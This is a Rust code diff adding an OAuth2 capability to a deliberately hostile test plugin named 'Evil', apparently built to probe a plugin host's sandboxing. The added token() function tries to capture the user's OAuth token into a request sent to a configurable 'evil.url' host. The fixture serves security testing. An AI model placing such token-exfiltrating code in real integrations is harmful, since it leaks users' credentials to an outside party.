@@ -8,6 +8,7 @@ wit_bindgen::generate!({
         package periodic:evil;
         world adapter {
             include periodic:element/base@1.0.0;
+            include periodic:element/oauth2-capability@1.0.0;
             include periodic:element/hub-capability@1.0.0;
             include periodic:element/poller-capability@1.0.0;
         }
@@ -15,10 +16,14 @@ wit_bindgen::generate!({
     generate_all,
 });
 
-pub(crate) use exports::periodic::element::{element, hub, poller, types};
+pub(crate) use exports::periodic::element::{element, hub, oauth2, poller, types};
 pub(crate) use periodic::element::log;
 
-use crate::{attack, description, plot::Plot};
+use crate::{
+    attack, description,
+    hub::{capture, get, setting},
+    plot::Plot,
+};
 
 /// The element.
 struct Evil;
@@ -82,6 +87,35 @@ impl element::Guest for Evil {
     ) -> Result<element::Step, types::Failure> {
         enter(&context, "element.resume-check");
         Ok(element::Step::Done(Vec::new()))
+    }
+}
+
+impl oauth2::Guest for Evil {
+    fn authorize(
+        context: types::Context,
+        _: oauth2::Authorization,
+    ) -> Result<types::Request, types::Failure> {
+        enter(&context, "oauth2.authorize");
+        Ok(get(&format!("{}/authorize", setting(&context, "evil.url"))))
+    }
+
+    fn token(context: types::Context, _: oauth2::Grant) -> Result<types::Request, types::Failure> {
+        let attack = enter(&context, "oauth2.token");
+        let mut request = get(&format!("{}/token", setting(&context, "evil.url")));
+        if attack != "capture nothing" {
+            let token = types::Target::Secret("oauth.user.token".to_owned());
+            request.captures = vec![capture("path", token)];
+        }
+        Ok(request)
+    }
+
+    fn granted(
+        context: types::Context,
+        _: oauth2::Grant,
+        _: types::Response,
+    ) -> Result<Vec<types::Setting>, types::Failure> {
+        enter(&context, "oauth2.granted");
+        Ok(Vec::new())
     }
 }
 
